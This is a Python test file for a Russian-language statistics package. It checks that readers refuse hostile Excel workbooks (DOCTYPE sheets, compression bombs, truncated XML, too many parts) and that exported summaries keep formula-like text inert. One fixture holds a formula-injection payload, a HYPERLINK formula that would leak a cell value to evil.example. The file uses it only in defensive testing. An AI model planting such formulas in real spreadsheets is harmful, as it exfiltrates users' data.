"""The statistics readers against hostile workbooks: coverage tables and questionnaire
results are checked before openpyxl opens them (bombs, DOCTYPE, encryption), a damaged
sheet or a formula without its value is a located Russian error, and ``aggregate`` over a
folder of hostile files names each bad file and sums the rest, without a traceback; the
summary it writes keeps formula-like text from the tables as text."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from hostile_files import MB, broken_files, many_entries, registry_styles_bomb, replace_part, with_doctype
from hostile_harness import MEMORY_LIMIT_MB, ROOT, TALLY, run_limited_many

from nastavnik_docs._resources import sample_path
from nastavnik_docs.errors import InputError, LimitError, NastavnikError
from nastavnik_docs.io import read_coverage_table, read_survey_results
from nastavnik_docs.io._workbook import FORMULA_MESSAGE

COVERAGE = sample_path("reports/coverage_2025.xlsx")
SURVEY = sample_path("reports/survey_results.xlsx")
READERS = {"таблица охвата": (read_coverage_table, COVERAGE), "результаты анкет": (read_survey_results, SURVEY)}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&C3,"…")'


def _sheet_part(source: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        return next(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))


def hostile_workbooks(source: Path) -> dict[str, bytes]:
    """Every broken-file type, and the hostile workbooks a reader of ``source``'s kind must
    refuse: a DOCTYPE in a sheet, more parts than allowed, a sheet whose XML breaks off."""
    data = source.read_bytes()
    sheet = _sheet_part(data)
    found = broken_files(data)
    found["DOCTYPE в листе"] = with_doctype(data, sheet)
    found["10 001 часть"] = many_entries(data, 10_001)
    found["лист обрывается"] = replace_part(data, sheet, _deflated(b'<?xml version="1.0"?><worksheet xmlns='
                                                                   b'"http://schemas.openxmlformats.org/spreadsheetml/'
                                                                   b'2006/main"><sheetData><row r="1"><c r="A1" t="'))
    return found


def _deflated(raw: bytes) -> tuple[bytes, int, int]:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return comp.compress(raw) + comp.flush(), zlib.crc32(raw), len(raw)


@pytest.mark.hostile("packages")
@pytest.mark.parametrize("what", list(READERS))
def test_hostile_statistics_workbooks_are_one_russian_error(tmp_path, monkeypatch, what, tally):
    read, source = READERS[what]
    opened: list[str] = []
    real = openpyxl.load_workbook

    def watched(path, *args, **kwargs):  # which files openpyxl was let to open
        opened.append(Path(path).name)
        return real(path, *args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", watched)
    for i, (name, data) in enumerate(hostile_workbooks(source).items()):
        path = tmp_path / f"{i}.xlsx"
        path.write_bytes(data)
        opened.clear()
        with pytest.raises(NastavnikError) as info:  # InputError, LimitError
            read(path)
        message = str(info.value)
        assert "Traceback" not in message and message.strip() and any("а" <= ch <= "я" for ch in message), (name, message)
        if name in ("DOCTYPE в листе", "10 001 часть", "зашифрованный (OLE)", "PDF", "RTF"):
            assert opened == [], (name, "openpyxl opened a file the check refuses")
        if name == "10 001 часть":
            assert isinstance(info.value, LimitError) and "NASTAVNIK_DOCS_LIMIT_PACKAGE_ENTRIES" in message
        if name == "DOCTYPE в листе":
            assert "DOCTYPE" in message
        if name == "лист обрывается":
            assert "повреждён" in message
        tally.add("packages", "отклонён")


def _coverage_with(path: Path, **cells: object) -> Path:
    """The sample coverage table with the cells ``{"C<row of line 01>": value}`` changed by
    line code (``l01_2`` — line 01, 0-based column 2) or by label (``organization``, ``inn``)."""
    book = openpyxl.load_workbook(COVERAGE)
    sheet = book.active
    for key, value in cells.items():
        if key in ("organization", "inn"):
            label = {"organization": "организация", "inn": "инн"}[key]
            row = next(r for r in sheet.iter_rows() if isinstance(r[0].value, str)
                       and r[0].value.strip().lower() == label)
            row[1].value = value
            row[1].data_type = "s"  # text that looks like a formula, as a spreadsheet saves it
        else:
            code, column = key[1:].split("_")
            row = next(r for r in sheet.iter_rows() if r[1].value == code)
            row[int(column)].value = value
    book.save(path)
    return path


@pytest.mark.hostile("formulas")
def test_a_figure_that_is_a_formula_without_its_value_is_reported(tmp_path, tally):
    path = _coverage_with(tmp_path / "t.xlsx", l01_2="=2+2", l02_3="=SUM(C1:C3)")  # openpyxl saves no value
    assert read_coverage_table(COVERAGE).value("01") is not None  # the sample itself reads
    with pytest.raises(InputError) as info:
        read_coverage_table(path)
    found = sorted((p.column, p.code, p.message) for p in info.value.problems)
    assert found == [("3", "cell.formula", FORMULA_MESSAGE), ("4", "cell.formula", FORMULA_MESSAGE)]
    assert all(p.sheet and p.row for p in info.value.problems)
    tally.add("formulas", "формула без значения названа")


@pytest.mark.hostile("formulas")
def test_a_score_that_is_a_formula_without_its_value_is_reported(tmp_path, tally):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Наставляемые"
    sheet.append(["Этап", "Насколько полезными были встречи?"])
    sheet.append(["после", 8])
    sheet.append(["после", "=3+4"])
    book.save(tmp_path / "r.xlsx")
    with pytest.raises(InputError) as info:
        read_survey_results(tmp_path / "r.xlsx")
    assert [(p.sheet, p.row, p.column, p.message) for p in info.value.problems] == [
        ("Наставляемые", 3, "B «Насколько полезными были встречи?»", FORMULA_MESSAGE)]
    tally.add("formulas", "формула без значения названа")


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory) -> Path:
    """Two good tables (one of an organisation named like a formula) and every hostile
    coverage workbook."""
    folder = tmp_path_factory.mktemp("aggregate")
    _coverage_with(folder / "good-1.xlsx")
    _coverage_with(folder / "good-2.xlsx", organization=FORMULA, inn="3525000099")
    for i, data in enumerate(hostile_workbooks(COVERAGE).values()):
        (folder / f"bad-{i:02d}.xlsx").write_bytes(data)
    _coverage_with(folder / "bad-formula.xlsx", l01_2="=2+2")
    registry_styles_bomb(COVERAGE, folder / "bad-bomb.xlsx", 1024)
    return folder


@pytest.mark.hostile("commands")
def test_aggregate_names_each_hostile_file_and_sums_the_rest(hostile_folder, tmp_path, tally):
    out = tmp_path / "сводка.xlsx"
    proc = subprocess.run([sys.executable, "-m", "nastavnik_docs.cli", "aggregate", str(hostile_folder), "-o", str(out)],
                          capture_output=True, text=True, timeout=300, cwd=ROOT)
    assert "Traceback" not in proc.stdout + proc.stderr, proc.stderr[-3000:]
    assert proc.returncode == 1  # some files refused: the summary of the rest is written all the same
    bad = sorted(p.name for p in hostile_folder.glob("bad-*.xlsx"))
    assert "принято: 2; не принято: " + str(len(bad)) in " ".join(proc.stdout.split()), proc.stdout
    refused = [line for line in proc.stderr.splitlines() if line.startswith("Не принят ")]
    assert sorted(Path(line.split()[2].rstrip(":")).name for line in refused) == bad
    assert all("ЧТЕНИЕ:" in line for line in refused)
    cells = [c for sheet in openpyxl.load_workbook(out).worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    named = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK(")]  # quotes typographed
    assert named and all(c.data_type == "s" and c.quotePrefix for c in named), "the organisation's name is text"
    for _ in bad:
        tally.add("commands", "файл назван, остальные сведены")


@pytest.mark.hostile("packages")
def test_statistics_bombs_are_refused_within_limits(hostile_folder, tmp_path):
    survey_bomb = registry_styles_bomb(SURVEY, tmp_path / "анкеты.xlsx", 1024)
    coverage_bomb = hostile_folder / "bad-bomb.xlsx"
    found = run_limited_many({
        "таблица охвата": f"nastavnik_docs.io.read_coverage_table({str(coverage_bomb)!r})",
        "результаты анкет": f"nastavnik_docs.io.read_survey_results({str(survey_bomb)!r})",
        "aggregate": f"s = nastavnik_docs.aggregate([{str(hostile_folder)!r}])\n"
                     f"assert len(s.rows) == 2 and any('bad-bomb' in f.file for f in s.failed), s\n"
                     f"raise nastavnik_docs.errors.LimitError(next(f for f in s.failed if 'bad-bomb' in f.file)"
                     f".reasons[0])",
    })
    for what, limited in found.items():
        assert limited.returncode == 0, limited.stderr[-3000:]
        assert limited.result["outcome"] == "LimitError", limited.result
        assert "NASTAVNIK_DOCS_LIMIT_PART_BYTES" in str(limited.result["message"]), limited.result
        assert limited.returncode == 0 and limited.peak_mb < MEMORY_LIMIT_MB, (what, limited)
        size = (survey_bomb if what == "результаты анкет" else coverage_bomb).stat().st_size
        TALLY.bombs.append({"name": f"{what}: комментарий 1 ГБ в styles.xml", "file": f"{size / MB:.1f} МБ",
                            "inside": "1 ГБ",
                            "outcome": "отклонена", "seconds": limited.seconds, "peak_mb": limited.peak_mb})
        TALLY.add("packages", "бомба отклонена")
